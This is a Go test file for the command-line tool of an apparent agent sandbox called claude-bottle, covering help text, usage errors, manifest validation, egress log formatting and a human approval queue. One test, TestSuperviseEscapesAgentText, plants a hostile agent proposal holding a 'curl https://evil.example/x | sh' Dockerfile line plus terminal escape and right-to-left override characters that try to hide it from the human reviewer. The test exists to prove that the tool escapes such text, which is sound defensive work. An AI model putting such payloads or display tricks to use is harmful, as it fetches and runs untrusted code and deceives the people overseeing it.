package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/claude-bottle/claude-bottle/pkg/approvals"
	"github.com/claude-bottle/claude-bottle/pkg/termtext"
)

// everyCommand is the command tree a user reaches; the test below fails
// when a command is added without help and examples.
var everyCommand = [][]string{
	{"allow"}, {"cleanup"}, {"deny"}, {"doctor"}, {"down"}, {"exec"}, {"init"}, {"logs"}, {"ls"}, {"pull"}, {"render"}, {"run"}, {"selftest"},
	{"shell"}, {"supervise"}, {"supervise", "ls"}, {"supervise", "show"}, {"supervise", "approve"}, {"supervise", "reject"},
	{"up"}, {"validate"}, {"version"},
}

func TestEveryCommandHasHelpWithExamples(t *testing.T) {
	root := newRoot(&app{stdio: Stdio{}, env: func(string) (string, bool) { return "", false }})
	var listed []string
	for _, c := range root.Commands() {
		if c.Name() != "help" && c.Name() != "completion" {
			listed = append(listed, c.Name())
		}
	}
	var top []string
	for _, c := range everyCommand {
		if len(c) == 1 {
			top = append(top, c[0])
		}
	}
	assert.DeepEqual(t, listed, top)
	for _, c := range everyCommand {
		t.Run(strings.Join(c, "_"), func(t *testing.T) {
			// --help and help COMMAND print the same page, exit 0, on stdout.
			code, out, errOut := runCLI(t, nil, append(append([]string{}, c...), "--help")...)
			assert.Equal(t, code, ExitOK, errOut)
			assert.Equal(t, errOut, "")
			assert.Assert(t, is.Contains(out, "Usage:\n  claude-bottle "+strings.Join(c, " ")))
			assert.Assert(t, is.Contains(out, "Examples:\n  claude-bottle "), "every command shows examples")
			assert.Assert(t, is.Contains(out, "Exit codes:\n  0  success"))
			code, out2, _ := runCLI(t, nil, append([]string{"help"}, c...)...)
			assert.Equal(t, code, ExitOK)
			assert.Equal(t, out2, out)
			code, out3, _ := runCLI(t, nil, append(append([]string{}, c...), "-h")...)
			assert.Equal(t, code, ExitOK)
			assert.Equal(t, out3, out)
		})
	}
}

func TestHelpUpIsUpsHelp(t *testing.T) {
	code, out, _ := runCLI(t, nil, "help", "up")
	assert.Equal(t, code, ExitOK)
	assert.Assert(t, is.Contains(out, "-d, --detach"))
	assert.Assert(t, is.Contains(out, "-f, --file string"))
	assert.Assert(t, !strings.Contains(out, "Available Commands"), "not the top-level help")
	// exec's flags after SLUG belong to the command, but exec --help is help.
	code, out, _ = runCLI(t, nil, "exec", "--help")
	assert.Equal(t, code, ExitOK)
	assert.Assert(t, is.Contains(out, "claude-bottle exec [-i] [-t] [-u USER] [-w DIR] SLUG COMMAND..."))
}

func TestUsageErrorsExit2(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"unknown command suggests", []string{"upp"}, "Did you mean this?\n\tup"},
		{"unknown subcommand suggests", []string{"supervise", "aprove"}, "Did you mean this?\n\tapprove"},
		{"unknown flag", []string{"up", "--nope"}, "unknown flag: --nope"},
		{"unknown short flag", []string{"ls", "-z"}, "unknown shorthand flag: 'z' in -z"},
		{"exec without command", []string{"exec", "demo-abcde"}, "usage: claude-bottle exec [-i] [-t] [-u USER] [-w DIR] SLUG COMMAND..."},
		{"exec bad slug", []string{"exec", "../x", "ls"}, "invalid bottle slug"},
		{"shell without slug", []string{"shell"}, "give the bottle's slug"},
		{"down bad slug", []string{"down", "A_B"}, "invalid bottle slug"},
		{"down too many", []string{"down", "a-abcde", "b-abcde"}, "give the bottle's slug"},
		{"ls takes no args", []string{"ls", "x"}, "takes no arguments"},
		{"version takes no args", []string{"version", "x"}, "takes no arguments"},
		{"approve without id", []string{"supervise", "approve"}, "give the proposal ID"},
		{"flag needs value", []string{"render", "-f"}, "flag needs an argument: 'f' in -f"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errOut := runCLI(t, map[string]string{"CLAUDE_BOTTLE_HOME": t.TempDir()}, tc.args...)
			assert.Equal(t, code, ExitUsage, errOut)
			assert.Equal(t, out, "")
			assert.Assert(t, is.Contains(errOut, tc.want))
			assert.Assert(t, is.Contains(errOut, "run 'claude-bottle help'"))
		})
	}
}

func TestShortAndLongFlagsParse(t *testing.T) {
	// -d and -f parse together; the manifest error shows -f was read.
	missing := filepath.Join(t.TempDir(), "nope.toml")
	for _, args := range [][]string{
		{"up", "-d", "-f", missing},
		{"up", "--detach", "--file", missing},
		{"up", "-df", missing},
		{"render", "-f", missing},
		{"render", "--file=" + missing},
	} {
		code, _, errOut := runCLI(t, nil, args...)
		assert.Equal(t, code, ExitError, "%v: %s", args, errOut)
		assert.Assert(t, is.Contains(errOut, "nope.toml"), "%v", args)
	}
}

func TestVersionJSON(t *testing.T) {
	code, out, _ := runCLI(t, nil, "version", "--json")
	assert.Equal(t, code, ExitOK)
	var v map[string]any
	assert.NilError(t, json.Unmarshal([]byte(out), &v))
	assert.Assert(t, v["version"] != "", out)
	assert.Assert(t, strings.HasPrefix(v["go_version"].(string), "go"), out)
	assert.Assert(t, is.Contains(v["platform"].(string), "/"), out)
	code, out, _ = runCLI(t, nil, "version")
	assert.Equal(t, code, ExitOK)
	assert.Assert(t, strings.HasPrefix(out, "claude-bottle "))
	assert.Assert(t, !strings.Contains(out, " dev\n"), "from build info, not a constant")
}

func TestDoctorJSONWithoutEngine(t *testing.T) {
	t.Setenv("DOCKER_HOST", "unix://"+filepath.Join(t.TempDir(), "no.sock"))
	code, out, errOut := runCLI(t, map[string]string{"CLAUDE_BOTTLE_HOME": t.TempDir()}, "doctor", "--json")
	assert.Equal(t, code, ExitError)
	assert.Assert(t, is.Contains(errOut, "doctor: 1 problem(s)"))
	var got struct {
		OK     bool    `json:"ok"`
		Checks []Check `json:"checks"`
	}
	assert.NilError(t, json.Unmarshal([]byte(out), &got), out)
	assert.Assert(t, !got.OK)
	assert.Equal(t, len(got.Checks), 2, out)
	assert.Assert(t, got.Checks[0].OK && got.Checks[0].What == "state root")
	assert.Assert(t, !got.Checks[1].OK && got.Checks[1].What == "docker engine")
}

func TestCompletion(t *testing.T) {
	for _, sh := range []string{"bash", "zsh", "fish", "powershell"} {
		code, out, errOut := runCLI(t, nil, "completion", sh)
		assert.Equal(t, code, ExitOK, errOut)
		assert.Assert(t, is.Contains(out, "claude-bottle"), sh)
	}
	// Cobra's hidden completion entry point lists the subcommands.
	code, out, _ := runCLI(t, nil, "__complete", "sup")
	assert.Equal(t, code, ExitOK)
	assert.Assert(t, is.Contains(out, "supervise"))
}

func TestTerminalDetection(t *testing.T) {
	devNull, err := os.Open(os.DevNull)
	assert.NilError(t, err)
	defer devNull.Close()
	file, err := os.Create(filepath.Join(t.TempDir(), "out"))
	assert.NilError(t, err)
	defer file.Close()
	r, w, err := os.Pipe()
	assert.NilError(t, err)
	defer r.Close()
	defer w.Close()
	ptmx, tty, err := pty.Open()
	assert.NilError(t, err)
	defer ptmx.Close()
	defer tty.Close()

	st, err := devNull.Stat()
	assert.NilError(t, err)
	assert.Assert(t, st.Mode()&os.ModeCharDevice != 0, "the case this guards: /dev/null is a character device")
	none := func(string) (string, bool) { return "", false }
	for _, tc := range []struct {
		name string
		f    any
		want bool
	}{
		{"/dev/null", devNull, false},
		{"regular file", file, false},
		{"pipe read end", r, false},
		{"pipe write end", w, false},
		{"not a file", &strings.Builder{}, false},
		{"pty", tty, true},
	} {
		assert.Equal(t, isTerminal(tc.f), tc.want, tc.name)
		assert.Equal(t, fancyOutput(tc.f, none), tc.want, tc.name)
	}
	env := func(m map[string]string) LookupEnv {
		return func(k string) (string, bool) { v, ok := m[k]; return v, ok }
	}
	assert.Assert(t, !fancyOutput(tty, env(map[string]string{"TERM": "dumb"})))
	assert.Assert(t, !fancyOutput(tty, env(map[string]string{"NO_COLOR": "1"})))
	assert.Assert(t, fancyOutput(tty, env(map[string]string{"NO_COLOR": "", "TERM": "xterm"})), "an empty NO_COLOR is unset")
	assert.Assert(t, interactive(Stdio{In: tty, Out: tty}, env(map[string]string{"NO_COLOR": "1"})))
	assert.Assert(t, !interactive(Stdio{In: tty, Out: tty}, env(map[string]string{"TERM": "dumb"})))
	assert.Assert(t, !interactive(Stdio{In: devNull, Out: tty}, none))

	// supervise with stdin from /dev/null lists instead of starting the TUI.
	var out strings.Builder
	code := Main(t.Context(), []string{"supervise"}, Stdio{In: devNull, Out: &out, Err: &out},
		env(map[string]string{"CLAUDE_BOTTLE_HOME": t.TempDir()}))
	assert.Equal(t, code, ExitOK, out.String())
	assert.Equal(t, out.String(), "no pending proposals\n")
}

// hostileProposal queues a proposal the way an older or compromised daemon
// could (the MCP door refuses these fields), to prove the CLI escapes them.
func hostileProposal(t *testing.T, home string, p approvals.Proposal) approvals.Proposal {
	t.Helper()
	q := approvals.Queue{Dir: filepath.Join(home, "queue", p.Slug)}
	p, _, err := q.Submit(p, time.Now())
	assert.NilError(t, err)
	return p
}

func assertNoControl(t *testing.T, s string) {
	t.Helper()
	for _, r := range s {
		if r != '\n' && r != '\t' && termtext.Unsafe(r) {
			t.Fatalf("%U reached the terminal in %q", r, s)
		}
	}
}

func TestSuperviseEscapesAgentText(t *testing.T) {
	home := t.TempDir()
	e := map[string]string{"CLAUDE_BOTTLE_HOME": home}
	p := hostileProposal(t, home, approvals.Proposal{Slug: "demo-abcde", Kind: approvals.KindCapability,
		Dockerfile:    "FROM x\nRUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get install -y jq\n",
		Justification: "need jq\x1b[1A\x1b[2K\u202eok"})
	code, out, errOut := runCLI(t, e, "supervise", "ls")
	assert.Equal(t, code, ExitOK, errOut)
	assertNoControl(t, out)
	assert.Assert(t, is.Contains(out, `rebuild the agent image: RUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get ins…`), out)
	assert.Assert(t, is.Contains(out, `need jq\x1b[1A\x1b[2K\u202eok`))

	code, out, _ = runCLI(t, e, "supervise", "show", p.ID)
	assert.Equal(t, code, ExitOK)
	assertNoControl(t, out)
	assert.Assert(t, is.Contains(out, "  | ARG CLAUDE_BOTTLE_AGENT_BASE\n  | FROM ${CLAUDE_BOTTLE_AGENT_BASE}\n  | RUN curl https://evil.example/x | sh\\r\\x1b[2KRUN apt-get install -y jq\n"), out)

	// Approving a rebuild prints the whole Dockerfile and, off a terminal,
	// needs --yes; nothing is answered.
	code, out, errOut = runCLI(t, e, "supervise", "approve", p.ID)
	assert.Equal(t, code, ExitError)
	assertNoControl(t, out)
	assert.Assert(t, is.Contains(out, "rebuilds the agent of demo-abcde from this Dockerfile:\n  | ARG CLAUDE_BOTTLE_AGENT_BASE"))
	assert.Assert(t, is.Contains(out, `| RUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get install -y jq`))
	assert.Assert(t, is.Contains(errOut, "needs confirmation; run again with --yes"))
	_, answered, err := approvals.Queue{Dir: filepath.Join(home, "queue", "demo-abcde")}.Response(p.ID)
	assert.NilError(t, err)
	assert.Assert(t, !answered)

	code, out, _ = runCLI(t, e, "supervise", "show", p.ID, "--json")
	assert.Equal(t, code, ExitOK)
	var got approvals.Proposal
	assert.NilError(t, json.Unmarshal([]byte(out), &got))
	assert.Equal(t, got.Justification, p.Justification, "JSON carries the text as sent, JSON-escaped")
	assert.Assert(t, !strings.Contains(out, "\x1b"))
}

func TestAllowJSONAndDenyUsage(t *testing.T) {
	home := t.TempDir()
	e := map[string]string{"CLAUDE_BOTTLE_HOME": home}
	stageDefault(t, home, "default-abcde")
	code, out, errOut := runCLI(t, e, "allow", "default-abcde", "--json")
	assert.Equal(t, code, ExitOK, errOut)
	var r Reachable
	assert.NilError(t, json.Unmarshal([]byte(out), &r))
	assert.Equal(t, r.Slug, "default-abcde")
	assert.DeepEqual(t, r.Pipelock, []string{"api.anthropic.com"})
	assert.Equal(t, len(r.Routes), 1)
	assert.Equal(t, r.Routes[0].Host, "api.anthropic.com")

	code, _, errOut = runCLI(t, e, "allow", "default-abcde", "10.0.0.1")
	assert.Equal(t, code, ExitUsage)
	assert.Assert(t, is.Contains(errOut, "is an IP address"))
	code, _, errOut = runCLI(t, e, "allow", "default-abcde", "x.example.com/a/../b")
	assert.Equal(t, code, ExitUsage)
	assert.Assert(t, is.Contains(errOut, "without '..'"))
	code, _, errOut = runCLI(t, e, "deny", "default-abcde")
	assert.Equal(t, code, ExitUsage)
	assert.Assert(t, is.Contains(errOut, "at least one HOST[/PATH]"))
	code, _, errOut = runCLI(t, e, "revoke", "default-abcde", "x.example.com\u202e")
	assert.Equal(t, code, ExitUsage, errOut)
}

func TestInitValidateAndDiscovery(t *testing.T) {
	root := t.TempDir()
	sub := filepath.Join(root, "a", "b")
	assert.NilError(t, os.MkdirAll(sub, 0o755))
	t.Chdir(sub)

	// Nothing here or above: validate says so, render uses the default.
	code, _, errOut := runCLI(t, nil, "validate")
	assert.Equal(t, code, ExitError)
	assert.Assert(t, is.Contains(errOut, "no bottle.toml in this directory or above"))

	code, out, errOut := runCLI(t, nil, "init", root, "--name", "demo")
	assert.Equal(t, code, ExitOK, errOut)
	assert.Equal(t, out, "wrote "+filepath.Join(root, "bottle.toml")+": edit it, then claude-bottle validate "+filepath.Join(root, "bottle.toml")+" and claude-bottle up\n")
	data, err := os.ReadFile(filepath.Join(root, "bottle.toml"))
	assert.NilError(t, err)
	assert.Assert(t, is.Contains(string(data), "# Egress is the agent's only way to the internet"))
	code, _, errOut = runCLI(t, nil, "init", root)
	assert.Equal(t, code, ExitError)
	assert.Assert(t, is.Contains(errOut, "exists; edit it, or run again with --force"))
	code, _, errOut = runCLI(t, nil, "init", t.TempDir(), "--name", "Bad Name")
	assert.Equal(t, code, ExitUsage)
	assert.Assert(t, is.Contains(errOut, "is not a valid bottle name"))

	// Found from two levels below; validate and render say which file.
	code, out, errOut = runCLI(t, nil, "validate")
	assert.Equal(t, code, ExitOK, errOut)
	assert.Equal(t, out, filepath.Join(root, "bottle.toml")+": ok (bottle \"demo\")\n")
	code, out, errOut = runCLI(t, nil, "render", "--slug", "demo-abcde")
	assert.Equal(t, code, ExitOK, errOut)
	assert.Equal(t, errOut, "manifest: "+filepath.Join(root, "bottle.toml")+"\n")
	assert.Assert(t, is.Contains(out, "name: claude-bottle-demo-abcde"))

	// An invalid one: every problem, with lines, as text and as JSON.
	bad := filepath.Join(root, "bad.toml")
	assert.NilError(t, os.WriteFile(bad, []byte("name = \"x\"\nbogus = 1\n[pipelock]\nallowlist = [\"pypi.org\"]\n"), 0o644))
	code, _, errOut = runCLI(t, nil, "validate", bad)
	assert.Equal(t, code, ExitError)
	assert.Assert(t, is.Contains(errOut, "line 2: bogus: unknown key"))
	assert.Assert(t, is.Contains(errOut, `line 4: pipelock.allowlist[0]: "pypi.org" can never be reached`))
	code, out, _ = runCLI(t, nil, "validate", bad, "--json")
	assert.Equal(t, code, ExitError)
	var res ValidateResult
	assert.NilError(t, json.Unmarshal([]byte(out), &res))
	assert.Assert(t, !res.OK)
	assert.Equal(t, len(res.Problems), 2)
	assert.DeepEqual(t, res.Problems[0], ProblemResult{Line: 2, Key: "bogus", Message: "unknown key (check the spelling; see docs/operations.md for the manifest reference)"})
	code, out, _ = runCLI(t, nil, "validate", filepath.Join(root, "bottle.toml"), "--json")
	assert.Equal(t, code, ExitOK)
	assert.NilError(t, json.Unmarshal([]byte(out), &res))
	assert.Assert(t, res.OK && res.Name == "demo" && len(res.Problems) == 0)
}

func TestLogsFormatting(t *testing.T) {
	lines := []string{
		`{"time":"2026-01-01T12:00:00.123Z","level":"INFO","msg":"decision","daemon":"egress","decision":"deny","method":"GET","host":"evil.example.com","path":"/x","reason":"no route"}`,
		`[pipelock] {"time":"2026-01-01T12:00:01Z","level":"INFO","msg":"decision","daemon":"pipelock","decision":"allow","method":"POST","host":"api.anthropic.com","path":"/v1/messages"}`,
		`{"time":"2026-01-01T12:00:02Z","level":"INFO","msg":"decision","daemon":"pipelock","decision":"deny","host":"x.example.com","path":"/\u001b[2K\r\u202eok","reason":"dlp","detail":"aws key"}`,
		`{"time":"2026-01-01T12:00:03Z","level":"INFO","msg":"listening","daemon":"egress"}`,
		`not json`,
	}
	var got []string
	for _, l := range lines {
		if d, ok := parseDecision(l); ok {
			got = append(got, formatDecision(d))
		}
	}
	assert.DeepEqual(t, got, []string{
		"2026-01-01 12:00:00  egress   deny  GET    evil.example.com/x  reason=no route",
		"2026-01-01 12:00:01  pipelock allow POST   api.anthropic.com/v1/messages",
		"2026-01-01 12:00:02  pipelock deny         x.example.com/\\x1b[2K\\r\\u202eok  reason=dlp detail=aws key",
	})
	for _, g := range got {
		assertNoControl(t, g)
	}
}
